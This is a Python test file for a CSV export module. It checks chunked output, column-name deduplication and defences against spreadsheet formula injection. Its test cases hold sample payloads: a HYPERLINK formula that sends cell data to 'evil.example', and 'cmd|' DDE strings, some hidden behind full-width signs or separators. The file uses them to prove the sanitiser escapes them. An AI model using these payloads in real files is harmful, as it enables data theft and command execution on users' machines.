"""CSV in pieces of bounded size, and columns of which no two have one name."""

from __future__ import annotations

import csv
import time
from collections.abc import AsyncIterator

import pytest

from app.features.exports.files import PIECE_CHARACTERS, as_csv, csv_cell
from app.features.exports.sheet import _free


async def rows(count: int) -> AsyncIterator[dict[str, str | int]]:
    for number in range(count):
        yield {"number": number, "word": "x" * 100}


async def test_a_long_table_comes_in_pieces_that_are_the_whole_without_a_repeat() -> None:
    pieces = [piece async for piece in as_csv(["number", "word"], rows(2_000), with_bom=True)]
    assert len(pieces) > 3
    assert all(len(piece) < PIECE_CHARACTERS + 1_000 for piece in pieces)
    read = list(csv.DictReader(b"".join(pieces).decode("utf-8-sig").splitlines()))
    assert [int(row["number"]) for row in read] == list(range(2_000))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_no_spreadsheet_runs_a_text_as_a_formula(start: str) -> None:
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('x;=HYPERLINK("http://evil.example/?"&A1)', 'x;\'=HYPERLINK("http://evil.example/?"&A1)'),
        ("x; +1;-cmd|' /C calc'!A0", "x; '+1;'-cmd|' /C calc'!A0"),
        ("x;-@SUM(1);--1+cmd|'a'!A0; - 1+cmd|'a'!A0;-'S'!A1", "x;'-@SUM(1);'--1+cmd|'a'!A0; '- 1+cmd|'a'!A0;'-'S'!A1"),
        ('x;"=1+1;y', "x;\"'=1+1;y"),
        ("two\n=1+1\r\n@SUM(A1)", "two\n'=1+1\r\n'@SUM(A1)"),
        ("x;\uff1d1;\uff0dcmd|'a'!A0", "x;'\uff1d1;'\uff0dcmd|'a'!A0"),
        ("fine ;-) and a=b, 1-2; (sic)", "fine ;-) and a=b, 1-2; (sic)"),
        ("a list:\n- one\n- two", "a list:\n- one\n- two"),
    ],
)
def test_nor_where_it_takes_a_semicolon_or_a_line_for_the_end_of_a_cell(text: str, cell: str) -> None:
    assert csv_cell(text) == cell


def test_a_text_of_line_breaks_is_read_once() -> None:
    began = time.process_time()
    assert csv_cell("a" + "\n" * 100_000 + "b") == "a" + "\n" * 100_000 + "b"
    assert time.process_time() - began < 1.0, "read from each of them it would take minutes"


def test_a_column_whose_name_is_taken_gets_the_next_free_one() -> None:
    assert _free("age", {"vote"}) == "age"
    assert _free("age", {"age", "age_2"}) == "age_3"
